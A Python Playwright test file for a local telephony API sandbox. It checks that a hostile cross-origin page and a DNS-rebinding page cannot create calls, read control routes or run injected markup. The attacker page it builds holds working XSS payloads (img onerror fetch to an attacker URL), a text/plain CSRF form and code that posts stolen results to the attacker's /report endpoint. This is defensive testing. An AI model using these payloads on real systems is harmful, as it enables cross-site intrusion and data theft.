"""A web page on another origin, open in the developer's real (headless) Chromium, tries the
whole chain against a running sandbox: create a call with a hostile address, make the phone
page render it, read the control routes, post what it read back home. It gets nowhere; nor
does a page that rebinds its own name to 127.0.0.1."""

from __future__ import annotations

import json
import logging
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from catapult.sandbox import Sandbox

from ..browser import chromium

REBOUND = "rebind.test"  # a name the browser resolves to 127.0.0.1, as after a rebinding
#: Chromium's own Private Network Access checks, turned off: the sandbox must hold by itself
#: (other browsers, and older ones, have no such check)
NO_BROWSER_DEFENCES = ("--disable-features=BlockInsecurePrivateNetworkRequests,"
                       "PrivateNetworkAccessSendPreflights,"
                       "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks")


class Attacker:
    """The other site: serves a page, and keeps whatever is sent back to it."""

    def __init__(self) -> None:
        self.page = b""
        self.received: list[tuple[str, bytes]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                outer.received.append((self.path, b""))
                self._answer(outer.page if self.path == "/" else b"")

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                outer.received.append((self.path, self.rfile.read(length)))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def reports(self) -> dict:
        found = [body for path, body in self.received if path == "/report"]
        return json.loads(found[-1]) if found else {}

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
                  NO_BROWSER_DEFENCES) as launched:
        yield launched


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    yield opened
    context.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


def _attack_script(sandbox: str, home: str) -> str:
    hostile = f"sip:<img src=x onerror=\"fetch('{home}/pwned')\">@x"
    return f"""<!doctype html><html><body>
<form id="f" method="POST" action="{sandbox}/sandbox/calls" enctype="text/plain" target="sink">
<input name='{{"from":"+13235551234","to":"{hostile}","x":"' value='"}}'></form>
<iframe name="sink"></iframe><iframe id="framed" src="{sandbox}/"></iframe>
<script>
const S = {json.dumps(sandbox)}, HOME = {json.dumps(home)};
const hostile = {json.dumps(hostile)};
const results = {{}};
async function attempt(name, work) {{
  try {{ results[name] = String(await work()); }}
  catch (error) {{ results[name] = "failed: " + error; }}
}}
(async () => {{
  const call = JSON.stringify({{from: "+13235551234", to: hostile}});
  await attempt("create text/plain", async () => {{
    const r = await fetch(S + "/sandbox/calls", {{method: "POST", mode: "no-cors",
      headers: {{"Content-Type": "text/plain"}}, body: call}});
    return r.type; }});
  await attempt("create json", async () => {{
    const r = await fetch(S + "/sandbox/calls", {{method: "POST",
      headers: {{"Content-Type": "application/json"}}, body: call}});
    return r.status; }});
  await attempt("beacon", () => navigator.sendBeacon(S + "/sandbox/calls", call));
  await attempt("read requests", async () => (await fetch(S + "/sandbox/requests")).text());
  await attempt("read events opaque", async () => {{
    const r = await fetch(S + "/sandbox/events", {{mode: "no-cors"}});
    return r.type + " " + (await r.text()).length; }});
  document.getElementById("f").submit();
  await new Promise(done => setTimeout(done, 800));
  await attempt("framed phone readable", () => {{
    const framed = document.getElementById("framed");
    return framed.contentDocument ? framed.contentDocument.body.innerText : "no access"; }});
  await fetch(HOME + "/report", {{method: "POST", body: JSON.stringify(results)}});
}})();
</script></body></html>"""


def test_a_page_on_another_origin_gets_nowhere(page: Page, attacker: Attacker,
                                               caplog: pytest.LogCaptureFixture,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    request_log = logging.getLogger("catapult.sandbox.requests")
    # it does not propagate to the root logger, where caplog listens (pytest 9 also
    # listens on such loggers; older pytests do not)
    monkeypatch.setattr(request_log, "handlers", [*request_log.handlers, caplog.handler])
    with Sandbox() as sandbox, sandbox.client() as client, \
            caplog.at_level(logging.INFO, logger="catapult.sandbox.requests"):
        # the application's own data may hold markup too: the phone must show it as text
        mine = client.Call.create(from_="+19195551212", to="+19195551213")
        sandbox.answer(mine.id)
        html = f"<img src=x onerror=\"fetch('{attacker.url}/pwned')\">"
        mine.speak_sentence(html, tag=f"<b>{html}</b>")
        attacker.page = _attack_script(sandbox.base_url, attacker.url).encode()

        page.goto(attacker.url + "/")
        for _ in range(50):
            if attacker.reports():
                break
            page.wait_for_timeout(100)
        reports = attacker.reports()
        assert reports, "the attacking page never finished"
        # refused (403), and not even an opaque answer reaches the page (CORP: same-origin)
        assert reports["create text/plain"].startswith("failed")
        assert reports["create json"].startswith("failed")  # the preflight gets no CORS
        assert reports["read requests"].startswith("failed")
        assert reports["read events opaque"].startswith("failed")
        assert reports["framed phone readable"] in ("no access", "")
        answered = [record.getMessage() for record in caplog.records]
        # each attempt reached the sandbox and was refused there, not only by the browser
        for line in ("POST /sandbox/calls 403", "GET /sandbox/requests 403",
                     "GET /sandbox/events 403", "GET / 403"):
            assert any(message.startswith(line) for message in answered), line
        assert [call["id"] for call in sandbox.world.far_end.far_end_view()] == [mine.id]
        assert not [r for r in sandbox.requests if r.method != "POST" or r.path.endswith(
            "/calls") and r.body.get("to", "").startswith("sip:")]

        # the person opens the phone page itself: the markup shows as text, nothing runs
        phone = page.context.new_page()
        phone.goto(sandbox.base_url + "/")
        card = phone.locator(f'section[data-call-id="{mine.id}"]')
        expect(card.locator("ol.heard")).to_contain_text("<img src=x onerror=")
        assert card.locator("img").count() == 0 and phone.locator("b").count() == 0
        phone.wait_for_timeout(700)  # a few polls of the page
        assert not [path for path, _ in attacker.received if path.startswith("/pwned")]
        sent = json.dumps(reports)
        assert sandbox.api_secret not in sent and sandbox.user_id not in sent


def test_a_page_whose_name_rebinds_to_127_0_0_1_reads_nothing(page: Page,
                                                              attacker: Attacker) -> None:
    with Sandbox() as sandbox, sandbox.client() as client:
        client.Call.create(from_="+19195551212", to="+19195551213")
        rebound = f"http://{REBOUND}:{sandbox.port}"
        script = f"""<!doctype html><script>
(async () => {{
  const results = {{}};
  for (const path of ["/sandbox/requests", "/sandbox/calls", "/sandbox/events", "/"]) {{
    const r = await fetch(path);
    results[path] = r.status + " " + (await r.text()).slice(0, 200);
  }}
  const made = await fetch("/sandbox/calls", {{method: "POST",
    headers: {{"Content-Type": "application/json"}},
    body: JSON.stringify({{from: "+13235551234", to: "+19195550000"}})}});
  results["create"] = String(made.status);
  await fetch({json.dumps(attacker.url)} + "/report", {{method: "POST",
                                                       body: JSON.stringify(results)}});
}})();
</script>"""
        # the first load of the attacker's name came from the attacker's server; from then
        # on, the name points at 127.0.0.1, so the page's same-origin requests reach the
        # sandbox with Host: rebind.test:PORT
        page.route(f"{rebound}/", lambda route: route.fulfill(
            status=200, content_type="text/html", body=script))
        page.goto(f"{rebound}/")
        for _ in range(50):
            if attacker.reports():
                break
            page.wait_for_timeout(100)
        reports = attacker.reports()
        assert reports, "the rebinding page never finished"
        for path in ("/sandbox/requests", "/sandbox/calls", "/sandbox/events"):
            assert reports[path].startswith("403 "), reports[path]
            assert "host-not-allowed" in reports[path]
        assert reports["create"] == "403"
        assert len(sandbox.world.far_end.far_end_view()) == 1
        assert sandbox.user_id not in json.dumps(reports)
